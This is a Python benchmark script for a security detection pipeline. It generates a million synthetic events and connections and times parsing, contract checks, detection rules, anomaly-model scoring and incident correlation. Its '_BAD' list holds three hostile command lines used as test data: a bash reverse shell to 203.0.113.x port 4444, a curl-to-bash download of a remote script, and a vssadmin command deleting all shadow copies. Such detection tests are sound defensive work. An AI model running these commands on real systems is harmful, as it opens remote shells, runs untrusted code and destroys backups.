"""A million events and connections of five minutes through the stages of detection, from bytes to incidents.

    python tests/bench/bench_events.py [seed]

800,000 events and 200,000 connections, made here, one of 2,000 hostile, as JSON lines. Timed, one stage after the other in
one process, by the functions that the flow's stages call: read and number the rows, contract (types, Great Expectations, the good
rows), `detect` (all rules), `once` and both models, `count_logs`, alerts, correlation into incidents. The models are fitted before,
on 6,000 rows. Not timed: Airflow, and the writing of results.
"""

from __future__ import annotations

import json
import os
import sys
import time
from collections.abc import Callable
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from baton.contracts import check as contracts
from baton.contracts import engine
from baton.data import typed as parsing
from baton.data.formats import read_bytes
from baton.data.identity import with_row_identity
from baton.families.base import Rows
from baton.families.tabular.family import Tabular
from baton.families.tabular.selection import learner
from baton.packs.pack import find_model, load_pack
from baton.settings import settings
from baton_packs.incident_response.detection import stages

EVENTS, CONNECTIONS, HOSTILE = 800_000, 200_000, 2_000
PARTITION = "2026-11-20T09:00:00"
START = pd.Timestamp(PARTITION, tz="UTC")
_COMMANDS = [
    ("/usr/bin/python3", "python3 /opt/app/job.py --shard {n}"), ("/usr/bin/git", "git fetch origin branch-{n}"),
    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s unit{n}"), ("/bin/ls", "ls -la /srv/data/{n}"),
    ("/usr/bin/systemctl", "systemctl status worker-{n}"), ("C:\\Program Files\\App\\app.exe", "app.exe /task {n}"),
]  # fmt: skip
_BAD = [
    ("/bin/bash", "bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1"), ("/bin/sh", "sh -c curl -s http://203.0.113.{n}/i.sh | bash"),
    ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all {n}"),
]  # fmt: skip


def events(rng: np.random.Generator, rows: int) -> pd.DataFrame:
    """Events as collectors deliver them, times as text."""
    kind = rng.choice([3002, 1007, 4003, 4002], rows, p=[0.4, 0.3, 0.2, 0.1])
    number, host, user = rng.integers(0, 5000, rows), rng.integers(0, 300, rows), rng.integers(0, 800, rows)
    failed = rng.random(rows) < 0.03
    bad = np.zeros(rows, dtype=bool)
    bad[rng.choice(rows, rows // HOSTILE, replace=False)] = True
    seconds = np.sort(rng.random(rows) * 300)
    made: list[dict[str, Any]] = []
    for at in range(rows):
        n, what = int(number[at]), int(kind[at])
        row: dict[str, Any] = {
            "metadata_uid": f"e{at}", "time": f"2026-11-20T09:{int(seconds[at] // 60):02d}:{seconds[at] % 60:06.3f}Z",
            "class_uid": what, "activity_id": 1, "severity_id": 1, "device_hostname": f"host-{host[at]}",
            "user_name": f"user{user[at]}",
        }  # fmt: skip
        if bad[at] or what == 1007:
            program, command = (_BAD if bad[at] else _COMMANDS)[n % (3 if bad[at] else 6)]
            row |= {
                "class_uid": 1007,
                "process_name": program,
                "process_cmd_line": command.format(n=n % 250 if bad[at] else n),
            }
        elif what == 3002:
            source, said = f"10.1.{n % 250}.{host[at] % 250}", "Failed" if failed[at] else "Accepted"
            row |= {"status_id": 2 if failed[at] else 1, "service_name": "sshd", "src_endpoint_ip": source,
                    "raw_data": f"{said} password for user{user[at]} from {source} port {30000 + n} ssh2"}  # fmt: skip
        elif what == 4003:
            row |= {"query_hostname": f"node{n}.corp.example", "src_endpoint_ip": f"10.2.{n % 250}.7"}
        else:
            row |= {
                "activity_id": 3,
                "http_request_url": f"https://www.example.org/page/{n}?q={n}",
                "traffic_bytes_out": n,
            }
        made.append(row)
    columns = load_pack("incident_response").contract("events").columns  # each key in each line, also where it is empty
    return pd.DataFrame(made).reindex(columns=list(columns))


def connections(rng: np.random.Generator, rows: int, columns: list[str]) -> pd.DataFrame:
    """Connections with their features; hostile ones try many services and are refused."""
    attack = rng.random(rows) < 0.02
    made: dict[str, Any] = {
        "metadata_uid": [f"c{at}" for at in range(rows)],
        "time": (START + pd.to_timedelta(np.sort(rng.random(rows) * 300), unit="s")).strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
        "user_name": None, "class_uid": 4001, "src_endpoint_ip": [f"10.3.{n}.9" for n in rng.integers(0, 250, rows)],
        "dst_endpoint_ip": "10.4.0.1", "device_hostname": [f"host-{n}" for n in rng.integers(0, 300, rows)],
        "protocol_type": rng.choice(["tcp", "udp"], rows), "service": rng.choice(["http", "smtp", "domain_u", "private"], rows),
        "flag": np.where(attack, "REJ", "SF"), "attack": np.where(attack, rng.choice(["satan", "nmap"], rows), None),
        "is_attack": attack.astype(int),
    }  # fmt: skip
    for name in columns:
        if name.endswith("_rate"):
            made[name] = np.round(np.where(attack, rng.beta(5, 2, rows), rng.beta(1, 8, rows)), 2)
        elif name not in made:
            made[name] = rng.integers(0, 300 if name.endswith(("count", "bytes")) else 2, rows)
    return pd.DataFrame(made)


def lines(frame: pd.DataFrame) -> bytes:
    """JSON lines; an empty cell is null."""
    return str(frame.to_json(orient="records", lines=True)).encode()


class Watch:
    """Wall seconds of each step."""

    def __init__(self) -> None:
        self.seconds: dict[str, float] = {}

    def __call__(self, name: str, step: Callable[[], Any]) -> Any:
        """Run a step, and add its time under a name."""
        started = time.perf_counter()
        result = step()
        self.seconds[name] = self.seconds.get(name, 0.0) + time.perf_counter() - started
        return result


def through_contract(watch: Watch, body: bytes, name: str) -> pd.DataFrame:
    """Rows of a source: read, numbered, judged, the good ones typed."""
    spec = load_pack("incident_response").contract(name)
    end = START + pd.Timedelta(minutes=5)
    raw = watch("ingest", lambda: with_row_identity(read_bytes(body, name, "json"), name))
    parsed = watch("contract", lambda: parsing.parse(raw, spec))
    verdict = watch("contract", lambda: contracts.check(parsed, spec, (START.isoformat(), end.isoformat())))
    assert verdict.status != "broken", verdict.aggregate_failures
    return watch("contract", lambda: contracts.good_rows(parsed, verdict))


def fitted(name: str, frame: pd.DataFrame, candidate: str) -> tuple[Any, Any, Any]:
    """The pack's model, fitted without a leaderboard."""
    _, spec = find_model(name)
    maker = learner(spec.family)
    one = next(one for one in spec.candidates if one.name == candidate)
    y = frame["is_attack"].to_numpy() if "is_attack" in frame else None
    return spec, Tabular(maker), maker.fit(spec, one, Rows(frame, y), 7)


def run(seed: int, out: Path) -> list[dict[str, Any]]:
    """The time of all stages; each stage's own is left in `out`."""
    rng = np.random.default_rng(seed)
    spec, intrusion, model = None, None, None
    columns = list(load_pack("incident_response").contract("connections").columns)
    spec, intrusion, model = fitted("network_intrusion", connections(rng, 6000, columns), "average")
    body = (
        lines(events(rng, EVENTS)),
        lines(connections(rng, CONNECTIONS, columns).drop(columns=["attack", "is_attack"])),
    )
    engine.warm()
    watch = Watch()
    good = through_contract(watch, body[0], "events")
    traffic = through_contract(watch, body[1], "connections")
    found = watch("rules", lambda: stages.detect(good))
    counts = watch("log counts", lambda: stages.count_logs(good))
    traffic = watch("score", lambda: stages.once(traffic))
    scores = watch("score", lambda: intrusion.score(spec, model, traffic, 0.01))
    own, logs, detector = fitted("log_anomaly", counts, "isolation_forest")
    strange = watch("score", lambda: logs.score(own, detector, counts, 0.01))
    said = watch("alerts", lambda: stages.model_alerts(traffic, scores, counts, strange))
    alerts = watch("alerts", lambda: stages.join_alerts(found, said))
    incidents = correlated(watch, alerts)
    total = sum(watch.seconds.values())
    out.mkdir(parents=True, exist_ok=True)
    said_of = {"seconds": watch.seconds, "alerts": len(alerts), "of_rules": len(found), "incidents": incidents}
    (out / "events_seconds.json").write_text(json.dumps(said_of, indent=1), encoding="utf-8")
    shared = {"seed": seed, "load": os.getloadavg()[0], "cores": os.cpu_count(), **said_of}
    return [
        {"name": "events_1M_through_detection", "value": total, "unit": "s", "target": 60.0, "larger_is_better": False,
         "peer": None, "peer_value": None, "ratio": None, **shared}
    ]  # fmt: skip


def correlated(watch: Watch, alerts: pd.DataFrame) -> int | None:
    """Incidents that the alerts become; None where the pack has no correlation yet, which is then not timed."""
    if find_spec("baton_packs.incident_response.incidents") is None:
        return None
    from baton_packs.incident_response.incidents.correlate import CorrelateOptions, correlate
    from baton_packs.incident_response.incidents.incident import COLUMNS

    earlier = pd.DataFrame(columns=[*COLUMNS, "partition"])
    return len(watch("correlate", lambda: correlate(alerts, earlier, PARTITION, CorrelateOptions())).rows)


if __name__ == "__main__":
    chosen = int(sys.argv[1]) if len(sys.argv) > 1 else 20
    sys.stdout.write(json.dumps(run(chosen, settings().home / "bench"), indent=1) + "\n")
